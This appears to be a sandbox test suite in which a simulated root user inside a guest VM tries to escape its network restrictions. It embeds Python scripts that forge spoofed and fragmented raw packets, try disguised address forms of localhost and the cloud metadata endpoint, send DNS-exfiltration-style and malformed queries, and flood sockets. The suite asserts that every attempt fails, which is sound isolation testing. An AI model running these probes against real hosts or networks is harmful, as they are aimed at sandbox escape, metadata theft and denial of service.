/**
 * A root user in a guest who tries to get out: by what it says to the network card, to DNS, and by how much it says. Whatever is tried, nobody
 * on the host hears of it, what is allowed goes on, and the agent answers.
 */
import assert from 'node:assert/strict';
import { createSocket, type Socket } from 'node:dgram';
import { once } from 'node:events';
import { createServer, type AddressInfo, type Server } from 'node:net';
import { networkInterfaces } from 'node:os';
import { after, afterEach, before, describe, it } from 'node:test';
import type { Guest } from '../support/guest.js';
import { Lab } from '../support/lab.js';
import { NameServer } from '../support/name-server.js';
import { TEMPLATE_TAG } from '../support/test-host.js';

/** Frames that no kernel would send: whole, spoofed, with options, in pieces, to whoever might be there. */
const FRAMES = `
import socket, struct, sys
port, own = int(sys.argv[1]), sys.argv[2]
card = socket.socket(socket.AF_PACKET, socket.SOCK_RAW); card.bind(('eth0', 0))
mac = open('/sys/class/net/eth0/address').read().strip().replace(':', '')
def sum16(data):
    data += b'\\0' * (len(data) % 2)
    total = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    while total >> 16: total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff
def ip(source, to, protocol, body, flags=0, options=b''):
    head = struct.pack('!BBHHHBBH4s4s', 0x45 + len(options) // 4, 0, 20 + len(options) + len(body), 7, flags, 64, protocol, 0,
                       socket.inet_aton(source), socket.inet_aton(to)) + options
    return head[:10] + struct.pack('!H', sum16(head)) + head[12:] + body
def pseudo(source, to, protocol, body):
    return socket.inet_aton(source) + socket.inet_aton(to) + struct.pack('!BBH', 0, protocol, len(body))
def tcp(source, to, own_port, flags=2):
    body = struct.pack('!HHIIBBHHH', own_port, port, 1, 0, 0x50, flags, 65535, 0, 0)
    return body[:16] + struct.pack('!H', sum16(pseudo(source, to, 6, body) + body)) + body[18:]
def udp(source, to, to_port, data=b'x'):
    body = struct.pack('!HHHH', 4000, to_port, 8 + len(data), 0) + data
    return body[:6] + struct.pack('!H', sum16(pseudo(source, to, 17, body) + body) or 0xffff) + body[8:]
sent = 0
def send(packet, to_mac='525500000202', kind=0x0800):
    global sent
    try: card.send(bytes.fromhex(to_mac) + bytes.fromhex(mac) + struct.pack('!H', kind) + packet); sent += 1
    except OSError: pass
targets = ['10.0.2.2', '10.0.2.3', '10.0.2.4', '127.0.0.1', '127.0.0.2', '0.0.0.0', '169.254.169.254', '255.255.255.255', '10.0.2.255', '224.0.0.1', own]
record_route = b'\\x07\\x0b\\x04' + b'\\0' * 8 + b'\\x01'
loose_route = b'\\x83\\x07\\x04' + socket.inet_aton('127.0.0.1') + b'\\x01'
for mac_to in ('525500000202', 'ffffffffffff'):
    for source in ('10.0.2.15', '10.0.2.2', '127.0.0.1', '10.0.2.99', own, '0.0.0.0'):
        for number, to in enumerate(targets):
            syn, datagram = tcp(source, to, 5000 + number), udp(source, to, port)
            for options in (b'', record_route, loose_route):
                send(ip(source, to, 6, syn, 0, options), mac_to); send(ip(source, to, 17, datagram, 0, options), mac_to)
            send(ip(source, to, 6, syn[:8], 0x2000), mac_to); send(ip(source, to, 6, syn[8:], 0x0001), mac_to)
            send(ip(source, to, 17, datagram[:8], 0x2000), mac_to)
            for protocol in (1, 2, 4, 41, 47, 50, 132, 255): send(ip(source, to, protocol, b'\\x08\\0' + b'\\0' * 30), mac_to)
            send(ip(source, to, 6, tcp(source, to, 6000 + number, 0x10)), mac_to)
            for service in (53, 67, 69, 123, 137, 1900, 5353): send(ip(source, to, 17, udp(source, to, service, b'\\0\\1x\\0octet\\0')), mac_to)
    send(b'\\x60' + b'\\0' * 5 + b'\\x3a\\xff' + b'\\0' * 15 + b'\\1' + b'\\0' * 15 + b'\\1', mac_to, 0x86dd)
    send(ip('10.0.2.15', '10.0.2.2', 6, b'')[:9], mac_to); send(b'\\x4f' + b'\\xff' * 40, mac_to); send(b'', mac_to)
for size in range(0, 60): send(b'\\x45' + bytes(range(size)))
print(sent)
`;

/** Connections and datagrams to every form of the addresses; prints what was not refused. */
const LITERALS = `
import socket, sys
port = int(sys.argv[1])
forms = ['127.0.0.1', '127.1', '0177.0.0.1', '0x7f.1', '2130706433', '0', '10.0.2.2', '10.0.2.3', '169.254.169.254', '0251.0376.0251.0376', '2852039166',
  '10.1', '192.168.0.1', '100.100.100.200', '192.0.0.192', '255.255.255.255', '::1', '::ffff:10.0.2.2', '::ffff:a9fe:a9fe', 'fe80::2%eth0', 'fec0::2',
  'fd00:ec2::254', '64:ff9b::a9fe:a9fe', *sys.argv[2:]]
for form in forms:
    if form.startswith('127') or form in ('0', '::1', '0177.0.0.1', '0x7f.1', '2130706433'): continue  # the guest's own
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            family, _, _, _, address = socket.getaddrinfo(form, port, type=kind)[0]
            s = socket.socket(family, kind); s.settimeout(5); s.connect(address); s.send(b'x')
            print(form, kind, 'answered', s.recv(10))
        except socket.timeout: print(form, kind, 'silence') if kind == socket.SOCK_STREAM else None
        except OSError: pass
`;

/** Names that mean something else to somebody, and messages that are none; prints names that got an address. */
const NAMES = `
import random, socket, struct
random.seed(1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
def ask(labels, kind=1, resolver='10.0.2.3', raw=None):
    name = b''.join(bytes([len(l)]) + l for l in labels) + b'\\0'
    s.sendto(raw or struct.pack('!6H', 7, 0x100, 1, 0, 0, 0) + name + struct.pack('!HH', kind, 1), (resolver, 53))
    try: answer = s.recv(4096)
    except OSError: return
    if struct.unpack('!H', answer[6:8])[0]: print(labels, kind, resolver, answer[-4:])
names = [b'secret-data.evil.example', b'metadata.example', b'origin.example.evil', b'origin.exampl', b'example', b'xorigin.example', b'localhost',
  b'127.0.0.1', b'0x7f.1', b'2130706433', b'1.0.0.127.in-addr.arpa', b'origin.example\\0.evil', b'or\\xc4\\xb1gin.example', b'xn--orign-q9a.example', b'*', b'_http._tcp.origin.example']
for name in names:
    for kind in (1, 28, 16, 65, 255, 252):
        for resolver in ('10.0.2.3', '8.8.8.8', '169.254.169.254'): ask(name.split(b'.'), kind, resolver)
ask([b'origin.example']); ask([b'a' * 63] * 5); ask([b'a'] * 200)
head = struct.pack('!6H', 7, 0x100, 1, 0, 0, 0)
for raw in (head + b'\\xc0\\x0c\\0\\1\\0\\1', head + b'\\xc0\\x0d\\xc0\\x0c\\0\\1\\0\\1', head, b'x', head[:4] + b'\\xff\\xff' + head[6:] + b'\\1a\\0\\0\\1\\0\\1'): ask([], raw=raw)
for _ in range(300): s.sendto(head + random.randbytes(random.randrange(1, 200)), ('10.0.2.3', 53))
`;

/** Sockets without end, and connections that are left half made; writes down how many it has at the end. */
const FLOOD = `
import resource, select, socket, sys
resource.setrlimit(resource.RLIMIT_NOFILE, (12000, 12000))
port = int(sys.argv[1])
held = []
for number in range(10000):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if number % 4 else socket.SOCK_DGRAM); s.setblocking(False)
    try: s.connect(('10.0.2.2', port if number % 2 else 1 + number)); s.send(b'x')
    except OSError: pass
    held.append(s)
    if len(held) > 4000: held.pop(0).close()
open('/root/flood', 'w').write(str(len(held)))
`;

const GREET = `
import socket, sys
print(socket.create_connection((sys.argv[1], int(sys.argv[2])), 20).recv(10).decode())
`;

describe('a hostile root in a guest', { timeout: 500_000 }, () => {
  let lab: Lab;
  let names: NameServer;
  let allowed: Server;
  let trap: Server;
  let datagrams: Socket;
  let port = 0;
  let trapPort = 0;
  const heard: string[] = [];
  const own = Object.values(networkInterfaces())
    .flat()
    .flatMap((each) => (each?.family === 'IPv4' && !each.internal ? [each.address] : []));

  before(async () => {
    allowed = createServer((socket) => socket.on('error', () => undefined).end('hello'));
    allowed.listen(0, '127.0.0.1');
    trap = createServer((socket) => {
      heard.push(`tcp from ${String(socket.remoteAddress)}`);
      socket.destroy();
    });
    trap.listen(0, '0.0.0.0');
    await Promise.all([once(allowed, 'listening'), once(trap, 'listening')]);
    ({ port } = allowed.address() as AddressInfo);
    ({ port: trapPort } = trap.address() as AddressInfo);
    datagrams = createSocket('udp4');
    datagrams.on('message', (_bytes, from) => heard.push(`udp from ${from.address}`));
    datagrams.bind(trapPort, '0.0.0.0');
    await once(datagrams, 'listening');
    names = await NameServer.open({ 'origin.example': '127.0.0.1', 'metadata.example': '169.254.169.254' });
    lab = await Lab.open('hostile-network', { dnsServers: [names.address] });
  });
  afterEach(() => lab.clean());
  after(async () => {
    allowed.close();
    trap.close();
    datagrams.close();
    names.close();
    await lab.close();
  });

  const run = async (guest: Guest, program: string, ...args: (string | number)[]): Promise<string> => {
    const { stdout, stderr, exit_code } = await guest.exec(['python3', '-c', program, ...args.map(String)]);
    assert.equal(exit_code, 0, stderr);
    return stdout.trim();
  };
  const reaches = (guest: Guest, host: string): Promise<string> => run(guest, GREET, host, port);

  it('reaches nobody that no rule names, and stays reachable itself', async () => {
    const rules = [
      { allow: 'origin.example', ports: [port] },
      { allow: '127.0.0.1', ports: [port] },
    ];
    const guest = await lab.spawn(TEMPLATE_TAG, { mode: 'list', rules });
    assert.equal(await reaches(guest, 'origin.example'), 'hello');
    assert(Number(await run(guest, FRAMES, trapPort, own[0] ?? '10.9.9.9')) > 1000);
    assert.equal(await run(guest, LITERALS, trapPort, ...own), '');
    assert.equal(await run(guest, NAMES), '');
    await guest.start(FLOOD, trapPort);
    // While it lasts the agent answers.
    let flooded = '';
    while (flooded === '') flooded = await guest.shell('sleep 1; cat /root/flood 2>/dev/null || true');
    assert(Number(flooded) > 3000);
    assert.deepEqual(heard, []);
    assert.deepEqual([...new Set(names.asked)], ['origin.example']);
    assert.equal(await guest.shell('echo still here'), 'still here');
    // Not by name: a guest that floods with datagrams has no sockets left for its own DNS.
    assert.equal(await reaches(guest, '10.0.2.2'), 'hello');

    const open = await lab.spawn(TEMPLATE_TAG, { mode: 'internet' });
    await run(open, FRAMES, trapPort, own[0] ?? '10.9.9.9');
    assert.equal(await run(open, LITERALS, trapPort, ...own), '');
    assert.deepEqual(heard, []);
    assert.equal(await open.shell('echo still here'), 'still here');
  });
});
